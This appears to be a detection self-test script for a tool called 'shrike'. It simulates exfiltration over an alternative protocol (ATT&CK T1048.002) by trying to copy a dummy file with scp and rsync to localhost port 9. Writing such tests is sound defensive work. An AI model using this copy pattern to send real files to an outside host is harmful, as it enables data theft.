#!/bin/sh
# rule: Files copied between machines by a script
# technique: T1048.002
# case: scp and rsync to another machine
# needs: scp

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
echo text > file
timeout 1 scp -q -P 9 -o BatchMode=yes file 127.0.0.1:/tmp/ 2>/dev/null
command -v rsync >/dev/null && timeout 1 rsync file rsync://127.0.0.1:9/module/ 2>/dev/null
true
